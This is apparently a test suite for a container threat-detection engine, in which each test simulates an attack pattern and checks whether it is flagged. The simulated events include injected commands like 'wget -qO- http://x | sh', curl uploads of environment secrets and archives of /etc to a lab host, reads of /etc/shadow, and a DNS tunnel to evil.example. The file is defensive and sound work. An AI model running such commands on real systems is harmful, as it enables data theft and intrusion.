// Each pattern of attack the engine recognises by itself, with the tools renamed where a name could have helped.
import { describe, expect, it } from 'vitest'
import { createWorld, NOTHING, netSocket, pipe, TERMINAL, type World } from '../../testing/world.ts'

const LAB = '10.88.0.1'

function rules(world: World): string[] {
  return [...new Set(world.told.signals.filter((one) => one.grade !== 'weak').map((one) => one.rule))]
}

function incidents(world: World) {
  return [...world.told.incidents.values()].filter((one) => one.mergedInto === null)
}

function expectIncident(world: World, rule: string, containerId = 'c1'): void {
  expect(rules(world)).toContain(rule)
  const found = incidents(world)
  expect(found).toHaveLength(1)
  expect(found[0]?.containerIds).toEqual([containerId])
  expect(found[0]?.steps.map((step) => step.rule)).toContain(rule)
}

function service(): { world: World; init: ReturnType<World['container']>; job: ReturnType<World['container']> } {
  const world = createWorld()
  const init = world.container('c1', 'node /app/server.js')
  const job = init.run('sh -c work')
  return { world, init, job }
}

describe('shells behind the network', () => {
  it('is found when the shell has the socket as 0, 1 and 2', () => {
    const { world, job } = service()
    const shell = job.fork().connect(LAB, 4444, { socketId: '900' })
    for (const number of [0, 1, 2]) shell.stdio(number, netSocket(LAB, 4444))
    shell.exec('bash -i')
    expectIncident(world, 'behaviour.shell-on-network')
  })

  it('is found when an interpreter turns into a shell', () => {
    const { world, job } = service()
    const perl = job.run('perl -e code').connect(LAB, 4444, { socketId: '900' })
    perl.exec('/bin/sh -i', { stdio: [netSocket(LAB, 4444), netSocket(LAB, 4444), netSocket(LAB, 4444)] })
    expectIncident(world, 'behaviour.shell-on-network')
  })

  it('is found behind two pipes of a relay, the shell renamed', () => {
    const { world, job } = service()
    job.run('cp /bin/bash /tmp/nginx-worker').write('/tmp/nginx-worker')
    const relay = job.run('python3 -c relay').connect(LAB, 4444)
    relay.run('/tmp/nginx-worker', { layer: 'upper', stdio: [pipe(21), pipe(22), pipe(22)] })
    expectIncident(world, 'behaviour.shell-on-network')
  })

  it('is found behind a fifo and two helpers', () => {
    const { world, job } = service()
    const cat = job.run('cat /tmp/f', { stdio: [NOTHING, pipe(31), NOTHING] })
    const shell = job.run('sh -i', { stdio: [pipe(31), pipe(32), pipe(32)] })
    const sender = job.run('/opt/nc 10.88.0.1 4444', { stdio: [pipe(32), pipe(33), NOTHING] })
    sender.connect(LAB, 4444)
    expect([cat, shell]).toHaveLength(2)
    expectIncident(world, 'behaviour.shell-on-network')
  })

  it('is found behind a terminal whose master has the connection', () => {
    const { world, job } = service()
    const relay = job.run('python3 -c pty').connect(LAB, 4444)
    relay.stdio(0, netSocket(LAB, 4444)).stdio(1, netSocket(LAB, 4444))
    relay.run('sh', { stdio: [TERMINAL, TERMINAL, TERMINAL], terminal: true })
    expectIncident(world, 'behaviour.shell-on-network')
  })

  it('is found where typed code asks for its orders and gives each to a shell', () => {
    const { world, job } = service()
    const code = job.run('python3 -c loop').connect(LAB, 8000)
    code.traffic(LAB, 8000, 90, 200, { ended: true })
    code.run('sh -c whatever')
    expectIncident(world, 'behaviour.orders-run')
  })

  it('says nothing of a shell with a script, pipes and a connection above', () => {
    const { world, init } = service()
    init.connect('10.1.0.5', 5432)
    init.run('sh -c make', { stdio: [pipe(41), pipe(42), pipe(43)] })
    init.run('convert in.png out.jpg', { stdio: [pipe(44), pipe(45), pipe(46)] })
    expect(world.told.findings).toEqual([])
    expect(incidents(world)).toEqual([])
  })

  it('finds a shell that talks by itself, where services listen as elsewhere', () => {
    for (const port of [443, 7443]) {
      const { world, job } = service()
      const shell = job.run('bash -c x').connect(LAB, port, { socketId: '900' })
      expect(rules(world).includes('behaviour.shell-connects')).toBe(port === 7443)
      shell.traffic(LAB, port, 300, 20, { socketId: '900' })
      expect(rules(world)).toContain('behaviour.shell-connects')
    }
  })

  it('says nothing of a probe that asks the loopback', () => {
    const { world } = service()
    world.inject('c1', 'sh -c probe').exec('bash -c probe').fork().connect('127.0.0.1', 6379)
    expect(world.told.findings).toEqual([])
    expect(incidents(world)).toEqual([])
  })
})

describe('programs from the network', () => {
  it('finds text piped into a shell, whichever comes first', () => {
    for (const shellFirst of [true, false]) {
      const { world, job } = service()
      const shell = () => job.run('sh', { stdio: [pipe(51), NOTHING, NOTHING] })
      if (shellFirst) shell()
      job.run('/opt/fetch x', { stdio: [NOTHING, pipe(51), NOTHING] }).connect(LAB, 8000)
      if (!shellFirst) shell()
      expectIncident(world, 'behaviour.download-piped-to-interpreter')
    }
  })

  it('finds them also when the other end is over already', () => {
    const { world, job } = service()
    job
      .run('/opt/fetch x', { stdio: [NOTHING, pipe(52), NOTHING] })
      .connect(LAB, 8000)
      .exit()
    job.run('sh', { stdio: [pipe(52), NOTHING, NOTHING] })
    expectIncident(world, 'behaviour.download-piped-to-interpreter')
    const other = service()
    other.job.run('base64 -d', { stdio: [pipe(53), pipe(54), NOTHING] }).exit()
    other.job.run('sh', { stdio: [pipe(54), NOTHING, NOTHING] })
    expect(other.world.told.findings.map((one) => one.rule)).toEqual(['behaviour.decoded-text-run'])
  })

  it('finds a downloaded program that was renamed before it runs', () => {
    const { world, job } = service()
    job.run('/opt/fetch x').connect(LAB, 8000).write('/tmp/a', { inode: '77' }).exit()
    job.run('mv /tmp/a /tmp/b').rename('/tmp/a', '/tmp/b', '77')
    job.run('/tmp/b', { layer: 'upper', inode: '77' })
    expectIncident(world, 'behaviour.downloaded-program-run')
  })

  it('finds a downloaded script given to an interpreter', () => {
    const { world, job } = service()
    job.run('/opt/fetch x').connect(LAB, 8000).write('/tmp/p.sh').exit()
    job.run('bash /tmp/p.sh')
    expectIncident(world, 'behaviour.downloaded-program-run')
  })

  it('finds a file written out of a connection of the shell', () => {
    const { world, job } = service()
    const shell = job.run('bash -c x').connect(LAB, 8000, { socketId: '900' })
    shell.run('sed 1d', { stdio: [netSocket(LAB, 8000), { kind: 'file', id: '5' }, NOTHING] }).write('/tmp/.e')
    expectIncident(world, 'behaviour.shell-writes-download')
  })

  it('lets the installer of the distribution fetch and run what it brings', () => {
    const { world, job } = service()
    const apt = job.run('apt-get install -y tool').connect('10.2.0.9', 80)
    const dpkg = apt.run('dpkg --unpack tool.deb')
    dpkg.write('/usr/bin/tool')
    job.run('tool --version', { layer: 'upper' })
    expect(world.told.findings).toEqual([])
    expect(incidents(world)).toEqual([])
  })
})

describe('requests', () => {
  it('lets a server nobody knows yet ask one tool of its image', () => {
    const { world, init } = service()
    init.listen(8080).accept('10.9.9.9', 50_000)
    init.run('sh', { args: ['sh', '-c', "file -b '/tmp/phpAb12Cd' 2>&1"] })
    expect(incidents(world)).toEqual([])
  })

  it('finds a command that was slipped in behind the tool, and a first look around', () => {
    for (const text of ["file -b 'x'; wget -qO- http://x | sh", 'id', 'file -b `id`']) {
      const { world, init } = service()
      init.listen(8080).accept('10.9.9.9', 50_000)
      init.run('sh', { args: ['sh', '-c', text] })
      expectIncident(world, 'behaviour.request-starts-shell')
    }
  })

  it('finds a shell that a request starts', () => {
    const { world, init } = service()
    init.listen(8080).accept('10.9.9.9', 50_000)
    init.run('/srv/cgi-bin/ping').run('sh -c id')
    expectIncident(world, 'behaviour.request-starts-shell')
  })

  it('finds a script that was put there, run by the server', () => {
    const { world, init, job } = service()
    job.write('/srv/cgi-bin/.h.sh')
    init.accept('10.9.9.9', 50_000)
    init.fork().exec('sh /srv/cgi-bin/.h.sh', { args: ['/bin/sh', '/srv/cgi-bin/.h.sh'] })
    expectIncident(world, 'behaviour.request-runs-dropped-script')
  })

  it('says nothing of shells that a server starts when nobody asks', () => {
    const { world, init } = service()
    init.listen(8080)
    init.run('sh -c rotate')
    expect(incidents(world)).toEqual([])
  })
})

describe('looking around in the network', () => {
  it('finds a sweep over ports, each try a process of its own', () => {
    const { world, job } = service()
    for (let port = 20; port < 32; port++) job.run('/opt/probe').connect(LAB, port, { result: -111 }).exit()
    expectIncident(world, 'behaviour.port-sweep')
  })

  it('finds a sweep over neighbours', () => {
    const { world, job } = service()
    const scanner = job.run('/opt/x')
    for (let host = 1; host < 30; host++) scanner.connect(`10.88.0.${host}`, 6379, { result: -115 })
    expectIncident(world, 'behaviour.host-sweep')
  })

  it('finds a beacon, and not the same number of calls at odd times', () => {
    for (const [pauses, found] of [
      [[1000, 1010, 990, 1005, 1000, 998], true],
      [[1020, 1700, 1050, 1090, 1010, 1100], true],
      [[200, 4000, 900, 100, 7000, 1500], false],
    ] as const) {
      const { world, job } = service()
      const client = job.run('/opt/agent')
      for (const pause of pauses) {
        client.connect('203.0.113.7', 443)
        world.wait(pause)
      }
      client.connect('203.0.113.7', 443)
      expect(rules(world).includes('behaviour.beacon')).toBe(found)
    }
  })

  it('finds names that nobody would choose, and a tunnel in names', () => {
    const { world, job } = service()
    const random = [
      'xkqzjvwhtplmnb',
      'qwzrtpsdfghjkl',
      'bvcxzlkjhgfdsa',
      'ptrqmnxzwvkjhd',
      'zzkqxwvbnmtrpl',
      'hjklqwrtpsdfgx',
    ]
    for (const one of random) for (const end of ['a', 'k', 'z']) job.dns(`${one}${end}.ddns.example`)
    expect(rules(world)).toContain('behaviour.random-names')
    const other = service()
    const tunnel = other.job.run('/opt/t')
    for (let part = 0; part < 20; part++) {
      tunnel.dns(`${String(part).padStart(2, 'q')}mfzwizltoqwca5dpebsw4zltpf2hk3tom5zgk4dpoj2.t.evil.example`)
    }
    expectIncident(other.world, 'behaviour.dns-tunnel')
  })

  it('says nothing of the names of a cluster and of ordinary hosts', () => {
    const { world, job } = service()
    for (const name of ['orders', 'payments', 'users', 'catalogue', 'search', 'images', 'sessions', 'reports']) {
      job.dns(`${name}.shop.svc.cluster.local`)
      job.dns(`${name}-production.example.com`)
      job.dns(`${name}.example.com`)
    }
    expect(world.told.findings).toEqual([])
    expect(incidents(world)).toEqual([])
  })
})

describe('what is taken out', () => {
  it('finds an archive that is sent, the tools renamed', () => {
    const { world, job } = service()
    job.run('tar czf /tmp/.o.tgz /etc').read('/etc/shadow').write('/tmp/.o.tgz').exit()
    job.run('/opt/up -T /tmp/.o.tgz http://10.88.0.1/up').connect(LAB, 8000).traffic(LAB, 8000, 60_000, 300)
    expectIncident(world, 'behaviour.archive-sent')
  })

  it('finds a database file that is copied and sent', () => {
    const { world, job } = service()
    job.run('cp /var/lib/app/db.sqlite /tmp/.d').read('/var/lib/app/db.sqlite').write('/tmp/.d').exit()
    job.run('curl -T /tmp/.d http://10.88.0.1/up').connect(LAB, 8000).traffic(LAB, 8000, 65_000, 300)
    expectIncident(world, 'behaviour.data-file-sent')
  })

  it('finds the environment piped into a request', () => {
    const { world, job } = service()
    job.run('env', { stdio: [NOTHING, pipe(61), NOTHING] }).exit()
    job
      .run('curl --data-binary @- x', { stdio: [pipe(61), NOTHING, NOTHING] })
      .connect(LAB, 8000)
      .protocol('http', LAB, 8000, 'POST /up')
    expectIncident(world, 'behaviour.secret-sent')
  })

  it('finds the environment put into the address of a request by a shell', () => {
    const { world, job } = service()
    const inner = job.fork()
    inner.run('env', { stdio: [NOTHING, pipe(62), NOTHING] }).exit()
    inner.run('base64 -w0', { stdio: [pipe(62), pipe(63), NOTHING] }).exit()
    inner.exit()
    job.run('curl', { args: ['curl', '-s', `http://${LAB}/pixel?d=${'QUJD'.repeat(60)}`] }).connect(LAB, 8000)
    expectIncident(world, 'behaviour.secret-sent')
  })

  it('says nothing of a long address where nobody looked at the environment', () => {
    const { world, job } = service()
    job.run('date', { stdio: [NOTHING, pipe(64), NOTHING] }).exit()
    job.run('curl', { args: ['curl', '-s', `http://${LAB}/pixel?d=${'QUJD'.repeat(60)}`] }).connect(LAB, 8000)
    expect(rules(world)).not.toContain('behaviour.secret-sent')
  })

  it('finds the build script of a package, started by hand, that sends data', () => {
    const { world, job } = service()
    job.run('perl Makefile.PL').connect(LAB, 8000).protocol('http', LAB, 8000, 'POST /up')
    expectIncident(world, 'behaviour.install-script-sends')
  })

  it('finds copies of secrets gathered and sent', () => {
    const { world, job } = service()
    job.run('cp /proc/1/environ /tmp/.st/').read('/proc/1/environ').write('/tmp/.st/environ').exit()
    job.run('curl -T /tmp/.st/environ x').connect(LAB, 8000).traffic(LAB, 8000, 900, 200)
    expectIncident(world, 'behaviour.staged-copy-sent')
  })

  it('finds the script of a package that sends data', () => {
    const { world, job } = service()
    const pip = job.run('python3 /usr/bin/pip install .', { args: ['python3', '/usr/bin/pip', 'install', '.'] })
    pip.run('python3 setup.py').connect(LAB, 8000).protocol('http', LAB, 8000, 'POST /up')
    expectIncident(world, 'behaviour.install-script-sends')
  })

  it('says nothing of a package manager that fetches', () => {
    const { world, job } = service()
    const npm = job.run('node /usr/bin/npm ci', { args: ['node', '/usr/bin/npm', 'ci'] }).connect('198.51.100.4', 443)
    npm.traffic('198.51.100.4', 443, 3000, 900_000)
    npm.run('node install.js').connect('198.51.100.5', 443).traffic('198.51.100.5', 443, 300, 200_000)
    expect(world.told.findings).toEqual([])
    expect(incidents(world)).toEqual([])
  })

  it('finds a token that is taken to the API', () => {
    const { world, job } = service()
    job.run('cat t').read('/var/run/secrets/kubernetes.io/serviceaccount/token').exit()
    job.run('curl -k x').connect(LAB, 6443)
    expectIncident(world, 'behaviour.service-account-token-used')
    job.run('curl -k -XPOST https://10.88.0.1:6443/api/v1/namespaces/default/pods -d {}').connect(LAB, 6443)
    world.wait(2000)
    expect(incidents(world)[0]?.steps.at(-1)).toMatchObject({ tactic: 'lateral-movement', technique: 'T1550.001' })
  })
})

describe('damage', () => {
  it('finds data that is deleted in bulk, by many processes', () => {
    const { world, job } = service()
    for (let file = 0; file < 50; file++) job.fork().unlink(`/data2/${file}`).exit()
    expectIncident(world, 'behaviour.bulk-deletion')
  })

  it('finds files that are replaced by copies with a new ending', () => {
    const { world, job } = service()
    for (let file = 0; file < 12; file++) {
      job.run(`/usr/bin/gpg -c ${file}`).write(`/srv/docs/${file}.odt.gpg`, { created: true }).exit()
      job.run('rm').unlink(`/srv/docs/${file}.odt`).exit()
    }
    expectIncident(world, 'behaviour.sealed-and-removed')
  })

  it('finds files that are replaced under their own names by what a cipher made', () => {
    const { world, job } = service()
    for (let file = 0; file < 12; file++) {
      job.run(`/usr/bin/openssl enc ${file}`).write(`/srv/docs/${file}.odt.tmp`, { created: true }).exit()
      job.run('mv').rename(`/srv/docs/${file}.odt.tmp`, `/srv/docs/${file}.odt`).exit()
    }
    expectIncident(world, 'behaviour.sealed-and-removed')
  })

  it('says nothing of files that are saved by way of another', () => {
    const { world, job } = service()
    const app = job.run('/opt/app')
    for (let file = 0; file < 30; file++) {
      app.write(`/srv/docs/${file}.json.tmp`, { created: true })
      app.rename(`/srv/docs/${file}.json.tmp`, `/srv/docs/${file}.json`)
    }
    expect(incidents(world)).toEqual([])
  })

  it('says nothing of files that are compressed', () => {
    const { world, job } = service()
    for (let file = 0; file < 30; file++) {
      const gzip = job.run(`/usr/bin/gzip ${file}`).write(`/srv/docs/${file}.odt.gz`, { created: true })
      gzip.unlink(`/srv/docs/${file}.odt`).exit()
    }
    expect(incidents(world)).toEqual([])
  })

  it('finds files that get a new ending in bulk', () => {
    const { world, job } = service()
    const worker = job.run('/opt/w')
    for (let file = 0; file < 25; file++) worker.rename(`/srv/docs/${file}.odt`, `/srv/docs/${file}.odt.locked`)
    expectIncident(world, 'behaviour.bulk-encryption')
  })

  it('finds a storm of processes', () => {
    const { world, job } = service()
    for (let child = 0; child < 120; child++) job.fork()
    expectIncident(world, 'behaviour.fork-storm')
  })

  it('finds a flood of packets', () => {
    const { world, job } = service()
    job.run('/opt/f').traffic(LAB, 9, 80_000_000, 0, { protocol: 'udp', ended: false })
    expectIncident(world, 'behaviour.udp-flood')
  })

  it('says nothing of caches that are cleared', () => {
    const { world, job } = service()
    const cleaner = job.run('rm -rf /var/lib/apt/lists')
    for (let file = 0; file < 200; file++) cleaner.unlink(`/var/lib/apt/lists/${file}`).unlink(`/tmp/build/${file}`)
    expect(incidents(world)).toEqual([])
  })

  it('finds log-ins tried again and again', () => {
    const { world, job } = service()
    for (let user = 0; user < 5; user++) job.fork().connect(LAB, 5432).exit()
    expectIncident(world, 'behaviour.login-spray')
  })
})

describe('what shows with time or in number', () => {
  it('finds a dropped program that holds its connection, without a word of a mining protocol', () => {
    const { world, job } = service()
    job.run('cp /usr/bin/python3 /tmp/php-fpm').write('/tmp/php-fpm')
    job.run('/tmp/php-fpm -c x', { layer: 'upper' }).connect(LAB, 8000)
    world.wait(20_000)
    expect(rules(world)).not.toContain('behaviour.dropped-program-stays-connected')
    world.wait(20_000)
    expectIncident(world, 'behaviour.dropped-program-stays-connected')
  })

  it('finds one dropped program that runs several times at once, each with its connection', () => {
    const { world, job } = service()
    job.run('cp /usr/bin/python3 /tmp/php-fpm').write('/tmp/php-fpm')
    for (let core = 0; core < 2; core++) job.run('/tmp/php-fpm -c x', { layer: 'upper' }).connect(LAB, 8000)
    world.wait(4000)
    expectIncident(world, 'behaviour.dropped-program-stays-connected')
  })

  it('finds a program of the container among the files of the node', () => {
    const { world, job } = service()
    const enter = job.run('nsenter -t 1 -m')
    expect(incidents(world)).toEqual([])
    enter.exec('/bin/hostname', { mountNamespace: 1 })
    expectIncident(world, 'behaviour.left-the-container')
  })

  it('takes a flood of events for a hint and not for more', () => {
    const { world, job } = service()
    const flood = job.run('/opt/f')
    const event = world.events.at(-1)
    for (let number = 0; number < 6000; number++) {
      const open = { id: `f.${number}`, type: 'open', path: '/nonexistent', flags: 0, created: false }
      world.detector.receive({ ...event, ...open } as never)
    }
    flood.run('true')
    expect(incidents(world)).toEqual([])
    expect(world.told.findings).toEqual([])
  })
})
